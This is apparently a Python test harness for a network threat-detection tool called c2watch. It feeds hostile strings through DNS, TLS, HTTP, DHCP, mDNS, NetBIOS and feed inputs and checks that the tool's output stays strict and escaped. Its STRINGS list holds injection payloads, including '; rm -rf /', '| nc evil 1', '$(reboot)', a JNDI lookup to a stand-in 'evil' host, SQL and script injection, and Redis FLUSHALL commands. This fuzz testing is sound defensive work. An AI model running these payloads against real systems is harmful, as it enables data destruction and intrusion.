#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Hostile strings through every door into every sink, for tests/injection.t.

injection.py make DIR            writes captures, feeds and file names that carry them
injection.py records FILE        are the records in FILE strict, one a string and door, and can its octets be had back from each?
injection.py observed FILE       the same for --observe
injection.py said FILE           is FILE lines of c2watch, in printable ASCII?
injection.py keys DIR SOCKET     what is in Redis: writes the records there to DIR/stream and DIR/list, checks the rest
injection.py arguments C2WATCH FEED   what is said of each as an argument that is wrong
injection.py interfaces C2WATCH FEED  interfaces of such names, in a network namespace of our own
"""
import collections
import hashlib
import hmac
import importlib.util
import json
import os
import re
import socket
import struct
import subprocess
import sys
import tempfile
import time

HERE = os.path.dirname(os.path.abspath(__file__))

STRINGS = [
    # lines, quotes, JSON
    b"\r\nX-Injected: 1", b"\n{\"event\":{\"kind\":\"alert\"}}", b"a\0b", b"\"", b"'", b"\\", b"\\\"", b"\",\"c2watch\":{\"x\":\"", b"\"}\n{\"",
    b"\\u0000", b"\\ud800", b"\\n", b"\t\x0b\x0c\x08", bytes(range(1, 32)), b"\0",
    # what is escaped looks like this
    b"\\xff\xff", b"\\255", b"\\\\xff", b"\\\xff", b"\\.",
    # formats, shells, queries, templates, spreadsheets
    b"%s%s%s%n", b"%x%08x", b"%0d%0a%00", b"$(reboot)", b"`id`", b"; rm -rf /", b"| nc evil 1", b"&& true", b"../../../etc/passwd", b"' OR 1=1 --",
    b"${jndi:ldap://evil/a}", b"{{7*7}}", b"*.*", b"=cmd|' /C calc'!A0", b"+1+1", b"@SUM(1)", b"-rf",
    # pages
    b"<script>alert(1)</script>", b"</title><img src=x onerror=alert(1)>", b"&#0;&lt;",
    # Redis
    b"\r\n*1\r\n$8\r\nFLUSHALL\r\n", b"*3\r\n$3\r\nSET\r\n$1\r\na\r\n$1\r\nb\r\n", b"FLUSHALL\r\n", b"EVAL \"return 1\" 0",
    # terminals
    b"\x1b[31mred\x1b[0m", b"\x1b]0;title\x07", b"\x1b[2J\x1bc", b"\x9b31m", b"\x90q\x9c", bytes(range(0x80, 0xA0)), b"\xc2\x9b31m",
    b"\xc2\x85", b"\x7f\x7f",
    # UTF-8 and what is none
    "caf\u00e9".encode(), b"\xc0\xaf", b"\xc0\x80", b"\xe0\x80\xaf", b"\xf0\x80\x80\xaf", b"\xff", b"\xfe\xff", b"\xc3", b"\xe2\x82",
    b"\xf4\x90\x80\x80", b"\xed\xa0\x80", b"\xed\xb0\x80", b"\xed\xa0\xbd\xed\xb8\x80", "\u2028".encode(), "\u2029".encode(), "\ufeff".encode(),
    "\u202egpj.exe".encode(), "\u2066a\u2069".encode(), "\u200b".encode(), "\U000e0041".encode(), "\uffff".encode(), b"\xa0",
    # long ones, blanks, dots
    b"A" * 180, b"\xff" * 180, b"\\" * 180, b"  a  ", b"..", b".", b"#;",
]
LISTED = "msstorageazure.com"


class Octets(bytes):
    """Goes where a text is encoded, as it is."""

    def encode(self, *_):
        return bytes(self)


def pieces(octets):
    """In labels of at most 60, dots and all."""
    return [octets[at:at + 60] for at in range(0, len(octets), 60)]


def host_of(octets):
    """As a host name, below the listed one."""
    return b".".join(pieces(octets)) + b"." + LISTED.encode()


def labels_of(host):
    """The labels that are in a host name's octets, or None when it is none."""
    labels = host[:-1].split(b".") if host.endswith(b".") else host.split(b".")
    is_good = all(0 < len(label) <= 63 for label in labels) and sum(map(len, labels)) + len(labels) + 1 <= 255
    return [label.lower() for label in labels] if is_good else None


def unescaped_name(text):
    """The labels that presentation form tells; ValueError for what is none."""
    if not all(0x21 <= ord(c) <= 0x7E for c in text):
        raise ValueError(f"not in presentation form: {text!r}")
    labels = [b""]
    for part in re.findall(r"\\[0-9]{3}|\\[.\\]|[^\\]", text):
        if part == ".":
            labels.append(b"")
        else:
            labels[-1] += bytes([int(part[1:])]) if len(part) == 4 else part[-1:].encode()
    if "".join(re.findall(r"\\[0-9]{3}|\\[.\\]|[^\\]", text)) != text:
        raise ValueError(f"a backslash of its own: {text!r}")
    return labels


def unescaped(text):
    """The octets that a text tells."""
    return re.sub(rb"\\x([0-9a-f]{2})", lambda m: bytes([int(m[1], 16)]), text.encode())


# --- what is made ------------------------------------------------------------------------------------------------------------------------

def load_makers():
    spec = importlib.util.spec_from_file_location("golden", os.path.join(HERE, "golden", "make.py"))
    golden = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(golden)
    return golden


def sealed(hello):
    """A QUIC v1 Initial, RFC 9001 §5."""
    from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
    from cryptography.hazmat.primitives.ciphers.aead import AESGCM

    def expand(secret, label, n):
        return hmac.digest(secret, struct.pack(">HB", n, len(label) + 6) + b"tls13 " + label + b"\0\1", "sha256")[:n]

    dcid = hashlib.sha256(hello).digest()[:8]
    secret = expand(hmac.digest(bytes.fromhex("38762cf7f55934b34d179ae6a4c80cadccbb7f0a"), dcid, "sha256"), b"client in", 32)
    key, iv, hp = expand(secret, b"quic key", 16), expand(secret, b"quic iv", 12), expand(secret, b"quic hp", 16)
    frames = (b"\6\0" + struct.pack(">H", 0x4000 | len(hello)) + hello).ljust(1200, b"\0")
    head = b"\xc3\0\0\0\1\x08" + dcid + b"\0\0" + struct.pack(">H", 0x4000 | len(frames) + 20) + bytes(4)
    payload = AESGCM(key).encrypt(iv, frames, head)
    mask = Cipher(algorithms.AES(hp), modes.ECB()).encryptor().update(payload[:16])
    number = bytes(a ^ b for a, b in zip(head[-4:], mask[1:5]))
    return bytes([head[0] ^ mask[0] & 15]) + head[1:-4] + number + payload


def address(door, i):
    return f"10.{DOORS.index(door) + 1}.0.{i + 1}"


def door_dns(g, client, octets):
    qname = b"".join(g.block(1, label) for label in [*pieces(octets), *LISTED.encode().split(b".")])
    query = struct.pack(">6H", 1, 0x0100, 1, 0, 0, 0) + qname + b"\0\0\1\0\1"
    return [g.udp(client, 40000, g.RESOLVER, 53, g.Raw(query))]


def hello_named(g, octets):
    return g.hello(None, label=str(octets), post_quantum=False, more=[(0, g.block(2, b"\0" + g.block(2, host_of(octets))))])


def door_tls(g, client, octets):
    c = g.Connection(client, 50000, g.SERVER, 443)
    return c.open() + c.send(g.records(hello_named(g, octets)))


def door_quic(g, client, octets):
    return [g.udp(client, 50000, g.SERVER, 443, g.Raw(sealed(hello_named(g, octets))))]


def door_http(g, client, octets):
    c = g.Connection(client, 50000, g.SERVER, 80)
    return c.open() + c.send(b"GET / HTTP/1.1\r\nHost: " + host_of(octets) + b"\r\n\r\n")


def door_cert(g, client, octets):
    c = g.Connection(client, 50000, g.SERVER, 443)
    shown = g.certificate("Example", Octets(host_of(octets)))
    return c.open() + c.send(g.records(g.hello(None, post_quantum=False))) + g.replies(c, g.server_flight(shown))


def asks(g, client):
    return [g.ask(LISTED, client=client)]


def door_dhcp(g, client, octets):
    return g.dhcp_lease(client, g.Host(g.RESOLVER.mac, "10.0.0.1"), b".".join(pieces(octets)), 1) + asks(g, client)


def door_fqdn(g, client, octets):
    return g.dhcp_lease(client, g.Host(g.RESOLVER.mac, "10.0.0.1"), "ws", 1, fqdn=Octets(host_of(octets))) + asks(g, client)


def door_vendor(g, client, octets):
    return g.dhcp_lease(client, g.Host(g.RESOLVER.mac, "10.0.0.1"), "ws", 1, vendor=octets) + asks(g, client)


def door_mdns(g, client, octets):
    record = g.block(1, octets[:60]) + b"\5local\0" + struct.pack(">HHIH", 1, 0x8001, 120, 4) + socket.inet_aton(client.ip)
    tells = struct.pack(">6H", 0, 0x8400, 0, 1, 0, 0) + record
    return [g.udp(client, 5353, g.Host("01:00:5e:00:00:fb", "224.0.0.251"), 5353, g.Raw(tells))] + asks(g, client)


def door_nbns(g, client, octets):
    claim = struct.pack(">6H", 7, 0x2910, 1, 0, 0, 1) + g.netbios_name(Octets(octets[:15]), 0)
    claim += struct.pack(">HHHHHIHH", 32, 1, 0xC00C, 32, 1, 300000, 6, 0)
    everyone = g.Host("ff:ff:ff:ff:ff:ff", "10.255.255.255")
    return [g.udp(client, 137, everyone, 137, g.Raw(claim + socket.inet_aton(client.ip)))] + asks(g, client)


def door_line(g, client, octets):
    return [g.ask(f"line{STRINGS.index(octets)}.inject.example", client=client)]


def door_header(g, client, octets):
    return [g.ask(f"header{STRINGS.index(octets)}.inject.example", client=client)]


DOORS = ["dns", "tls", "quic", "http", "cert", "dhcp", "fqdn", "vendor", "mdns", "nbns", "line", "header", "file"]
KEYS = ["provider", "campaign", "description", "reference", "tag"]


def feed_line(octets):
    """What of a string can stand in a line of a feed, which ends at a newline."""
    return octets.replace(b"\0", b"").replace(b"\n", b"")


def header_line(octets):
    return feed_line(octets).strip(b" \t\r")


def feed_value(octets):
    """What a feed takes of a value: text without control characters, and without blanks at its ends."""
    try:
        value = octets.decode()
    except UnicodeDecodeError:
        return b""
    return b"" if re.search("[\x00-\x1f\x7f-\x9f]", value) else value.strip(" ").encode()


def file_name(octets):
    return b"f" + octets.replace(b"\0", b"").replace(b"/", b"_")[:60] + b"%d.pcap" % STRINGS.index(octets)


def make_feeds(folder):
    with open(os.path.join(folder, b"line.feed"), "wb") as out:
        out.write(b"#: name = line\n")
        for i, octets in enumerate(STRINGS):
            value = b'"' + feed_line(octets).replace(b'"', b'""') + b'"'
            if value != b'""':
                out.write(b"line%d.inject.example " % i + b" ".join(key.encode() + b"=" + value for key in KEYS) + b"\n")
    for i, octets in enumerate(STRINGS):
        value = header_line(octets)
        with open(os.path.join(folder, b"header%d.feed" % i), "wb") as out:
            out.write(b"#: name = header\n")
            for key in KEYS if value else []:
                out.write(b"#: " + key.encode() + b" = " + value + b"\n")
            out.write(b"header%d.inject.example\n" % i)
    with open(os.path.join(folder, b"names \x1b[31m.txt"), "wb") as out:
        out.write(b"#: name = names\n")
        for octets in STRINGS:
            out.write(octets.replace(b"\n", b"") + b".listed.example\n" + octets.replace(b"\n", b"") + b" provider=" + octets + b"\n")


def make(folder):
    g = load_makers()
    folder = os.fsencode(folder)
    frames = []
    for door in DOORS[:-1]:
        for i, octets in enumerate(STRINGS):
            client = g.Host(f"02:00:00:{DOORS.index(door):02x}:00:{i:02x}", address(door, i))
            frames += globals()["door_" + door](g, client, octets)
    g.pcap(os.path.join(folder, b"all.pcap"), g.timed(*frames, step_s=0.001))
    os.mkdir(os.path.join(folder, b"files"))
    os.mkdir(os.path.join(folder, b"feeds"))
    for i, octets in enumerate(STRINGS):
        client = g.Host(f"02:00:00:{len(DOORS):02x}:00:{i:02x}", address("file", i))
        g.pcap(os.path.join(folder, b"files", file_name(octets)), g.timed(*asks(g, client), at_s=100))
    make_feeds(os.path.join(folder, b"feeds"))


# --- what is checked ---------------------------------------------------------------------------------------------------------------------

def no_twins(pairs):
    keys = [key for key, _ in pairs]
    if len(set(keys)) != len(keys):
        raise ValueError(f"a key twice: {keys}")
    return dict(pairs)


def refuse_constant(word):
    raise ValueError(f"no JSON: {word}")


def texts_in(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, (dict, list)):
        for inner in value.values() if isinstance(value, dict) else value:
            yield from texts_in(inner)


def strict(line):
    """The line as JSON, or ValueError."""
    if re.search(rb"[^\x20-\x7e]", line):
        raise ValueError(f"not printable ASCII: {line!r}")
    record = json.loads(line, object_pairs_hook=no_twins, parse_constant=refuse_constant)
    if not isinstance(record, dict):
        raise ValueError(f"no object: {line!r}")
    for text in texts_in(record):
        if re.search("[\x00-\x1f\x7f-\x9f\ud800-\udfff]", text):
            raise ValueError(f"decoded, it would command: {text!r}")
    return record


def lines_of(path):
    with open(path, "rb") as lines:
        octets = lines.read()
    if octets and not octets.endswith(b"\n"):
        raise ValueError(f"{path}: the last line has no end")
    return octets.split(b"\n")[:-1]


def at(record, path):
    for key in path.split("."):
        record = record.get(key, {}) if isinstance(record, dict) else {}
    return record if isinstance(record, str) else ""


NAME_AT = {"dns": "dns.question.name", "tls": "tls.client.server_name", "quic": "tls.client.server_name", "http": "url.domain",
           "dhcp": "host.name", "fqdn": "source.domain", "mdns": "host.name", "nbns": "host.name"}
KEY_AT = {"provider": "threat.indicator.provider", "campaign": "c2watch.indicator.campaign", "description": "threat.indicator.description",
          "reference": "threat.indicator.reference", "tag": "c2watch.indicator.tag"}


def is_plain_authority(host):
    """No userinfo, port, literal or line end in it, and no blanks to trim."""
    return not re.search(rb"[@:\[\r\n]", host) and host.strip(b" \t") == host


def labels_sent(door, octets):
    """The labels that the door let in, None when they are no name, so that another is told, or none."""
    if door == "dns":
        return [label.lower() for label in [*pieces(octets), *LISTED.encode().split(b".")]]
    if door == "http":
        return labels_of(host_of(octets)) if is_plain_authority(host_of(octets)) else None
    if door == "dhcp":
        return labels_of(b".".join(pieces(octets)).rstrip(b"\0"))
    if door == "mdns":
        return [octets[:60].lower()]
    if door == "nbns":
        # Of lower case letters NetBIOS knows none, and its names are told apart by all octets but their end.
        name = octets[:15].rstrip(b" \0").lower()
        return [name] if name else None
    return labels_of(host_of(octets))


def check_name(door, octets, text):
    """Is the text the name that was sent?"""
    labels = labels_sent(door, octets)
    if labels is None:
        return True
    if unescaped_name(text) != labels:
        raise ValueError(f"{door}: {octets!r} came as {text!r}")
    return True


def check_record(door, octets, record):
    if door in NAME_AT:
        check_name(door, octets, at(record, NAME_AT[door]))
    elif door == "cert" and labels_of(host_of(octets)) is not None:
        if not any(unescaped_name(text) == labels_of(host_of(octets)) for text in record["tls"]["server"]["x509"]["alternative_names"]):
            raise ValueError(f"cert: {octets!r} is not in {record['tls']}")
    elif door == "vendor":  # of which the printable octets are taken
        if unescaped(at(record, "c2watch.attribution.vendor_class")) != re.sub(rb"[^\x20-\x7e]", b"", octets)[:31]:
            raise ValueError(f"vendor: {octets!r} came as {at(record, 'c2watch.attribution.vendor_class')!r}")
    elif door == "file":
        if not unescaped(at(record, "observer.ingress.interface.name")).endswith(b"/files/" + file_name(octets)):
            raise ValueError(f"file: {octets!r} came as {at(record, 'observer.ingress.interface.name')!r}")
    elif door in ("line", "header"):
        for key, path in KEY_AT.items():
            if unescaped(at(record, path)) != feed_value(feed_line(octets) if door == "line" else header_line(octets)):
                raise ValueError(f"{door}: {key} {octets!r} came as {at(record, path)!r}")


def is_hit(door, octets):
    """Does the string come through as a hit, or is it no name, or no value, there?"""
    if door in ("tls", "quic", "cert"):
        return labels_of(host_of(octets)) is not None
    if door == "line":
        return feed_value(feed_line(octets)) != b""
    return door != "http" or labels_sent(door, octets) is not None


def door_of(ip):
    _, door, _, i = (int(n) for n in ip.split("."))
    return DOORS[door - 1], i - 1


def check_records(path):
    counts = collections.Counter()
    for line in lines_of(path):
        record = strict(line)
        if record["event"]["dataset"] != "c2watch.hit":
            continue
        door, i = door_of(record["source"]["ip"])
        counts[door, i] += 1
        check_record(door, STRINGS[i], record)
    for door in DOORS:
        for i, octets in enumerate(STRINGS):
            wanted = is_hit(door, octets)
            # What is told of a Host field that is none is another's test.
            if counts[door, i] != wanted and (wanted or door != "http"):
                raise ValueError(f"{door}: {octets!r} made {counts[door, i]} records")
    return sum(counts.values())


OBSERVED = {"dns": "dns", "tls": "tls", "quic": "quic", "http": "http", "cert": "cert", "dhcp": "dhcp", "fqdn": "dhcp_fqdn",
            "mdns": "hostname", "nbns": "nbns"}


def check_observed(path):
    seen = collections.defaultdict(list)
    for line in lines_of(path):
        record = strict(line)
        for kind, name in (record["kind"], record["name"]), ("hostname", record.get("hostname", "")):
            seen[kind].append(unescaped_name(name) if name else [])
    for door, kind in OBSERVED.items():
        for octets in STRINGS:
            labels = labels_sent(door, octets)
            if labels is not None and labels not in seen[kind]:
                raise ValueError(f"{kind}: {octets!r} is not there")
    return sum(map(len, seen.values())) - len(seen["hostname"])


def check_said(said, wanted=None):
    lines = said.split(b"\n")
    if lines.pop() != b"":
        raise ValueError(f"the last line has no end: {said!r}")
    for line in lines:
        if not re.fullmatch(rb"c2watch: [\x20-\x7e]*", line):
            raise ValueError(f"no line of c2watch: {line!r}")
    if wanted is not None and not any(wanted in unescaped(line.decode()) for line in lines):
        raise ValueError(f"{wanted!r} is not in {lines}")
    return len(lines)


def check_file(path):
    with open(path, "rb") as said:
        return check_said(said.read())


def check_keys(folder, path):
    import redis
    server = redis.Redis(unix_socket_path=path)
    if sorted(server.keys()) != sorted(b"c2watch:" + key for key in (b"{inject}:hits", b"{inject}:queue", b"{inject}:queue:top", b"{inject}:status", b"sensors")):
        raise ValueError(f"keys: {server.keys()}")
    with open(os.path.join(folder, "stream"), "wb") as out:
        for _, fields in server.xrange("c2watch:{inject}:hits"):
            out.write(fields[b"json"] + b"\n")
            if any(re.search(rb"[^\x21-\x7e]", value) for field, value in fields.items() if field != b"json"):
                raise ValueError(f"flat fields: {fields}")
            record = strict(fields[b"json"])
            if fields[b"id"].decode() != at(record, "event.id"):
                raise ValueError(f"ids: {fields}")
            if record["event"]["dataset"] == "c2watch.hit" and fields[b"host"].decode() not in (at(record, "host.name"), at(record, "source.ip")):
                raise ValueError(f"hosts: {fields}")
    with open(os.path.join(folder, "list"), "wb") as out:
        out.writelines(item + b"\n" for item in server.lrange("c2watch:{inject}:queue", 0, -1))
    status = server.hgetall("c2watch:{inject}:status")
    if any(re.search(rb"[^\x21-\x7e]", octets) for pair in status.items() for octets in pair):
        raise ValueError(f"status: {status}")
    (sensor, about), = server.hgetall("c2watch:sensors").items()
    files = [unescaped(name) for name in strict(about)["interfaces"]]
    missing = [octets for octets in STRINGS if not any(name.endswith(b"/files/" + file_name(octets)) for name in files)]
    if sensor != b"inject" or missing:
        raise ValueError(f"sensors: {sensor} without {missing}")
    return len(status)


def check_arguments(c2watch, feed):
    """Each string where a name, file or server is wanted that is not there: what is said must be one line that gives it back."""
    count = 0
    good = ["-r", os.devnull, "-f", feed]
    for octets in STRINGS:
        word = octets.replace(b"\0", b"")
        path = b"/nowhere/" + word
        doors = {"-r": (path, ["-f", feed]), "-f": (path, ["-r", os.devnull]), "-n": (word or b" ", good), "-o": (path + b"/x", good),
                 "--home-net": (word[:60] or b" ", good), "--password-file": (path, [*good, "-o", "unix:///x"])}
        if re.fullmatch(rb"[A-Za-z0-9_-][A-Za-z0-9._-]*", word):
            del doors["-n"]  # a good name
        for option, (argument, others) in doors.items():
            run = subprocess.run([c2watch, "-q", *others, option, argument], capture_output=True, check=False)
            if run.returncode not in (1, 2, 3) or run.stdout:
                raise ValueError(f"{option} {argument!r}: {run}")
            # What looks like a server's URL is not repeated: there may be a password in it.
            check_said(run.stderr, None if option == "-o" and b"://" in word else argument)
            count += 1
    return count


# What the kernel takes for a name of at most 15 octets; each costs the capture's ring.
INTERFACES = [b"\x1b[31mred", b"a\"b'", b"\x9b31m", b"\xff\xfe", b"<script>", b"\\xff\xff", b"$(reboot)", "\u202egpj".encode()]


def check_watched(c2watch, feed, names):
    """A query into each, and the record names the interface."""
    command = [c2watch, "-v", "-u", "nobody", "-f", feed] + [word for name in names for word in ("-i", name)]
    with tempfile.TemporaryFile() as out, tempfile.TemporaryFile() as said:
        with subprocess.Popen(command, stdout=out, stderr=said) as process:
            for wanted, path, send in (1, said, False), (len(names), out, True):
                for _ in range(200):
                    path.seek(0)
                    if len(re.findall(rb"watching|c2watch.hit", path.read())) >= wanted or process.poll() is not None:
                        break
                    time.sleep(0.05)
                    if send:
                        send_queries(names)
            process.terminate()
        for path in out, said:
            path.seek(0)
        check_said(said.read())
        records = [strict(line) for line in out.read().split(b"\n") if line]
        seen = {unescaped(at(record, "observer.ingress.interface.name")) for record in records if record["event"]["dataset"] == "c2watch.hit"}
        if seen != set(names):
            raise ValueError(f"{names} came as {seen}")


def send_queries(names):
    g = load_makers()
    for i, _ in enumerate(names):
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as to:
            to.bind((f"peer{i}", 0))
            to.send(g.ask(LISTED, client=g.Host("02:00:00:00:00:10", f"10.99.0.{i + 1}")))


def check_interfaces(c2watch, feed):
    """For a network namespace of our own."""
    for names in INTERFACES[:4], INTERFACES[4:]:
        for i, name in enumerate(names):
            subprocess.run(["ip", "link", "add", "dev", name, "type", "veth", "peer", "name", f"peer{i}"], check=True)
            for end in name, f"peer{i}":
                subprocess.run(["ip", "link", "set", "dev", end, "up"], check=True)
        check_watched(c2watch, feed, names)
        for i, _ in enumerate(names):
            subprocess.run(["ip", "link", "del", "dev", f"peer{i}"], check=True)
    return len(INTERFACES)


CHECKS = {"records": check_records, "observed": check_observed, "said": check_file, "keys": check_keys, "arguments": check_arguments,
          "interfaces": check_interfaces}


def main(command, *arguments):
    if command == "make":
        make(*arguments)
        return
    try:
        print(CHECKS[command](*arguments))
    except ValueError as error:
        sys.exit(str(error))


main(*sys.argv[1:])
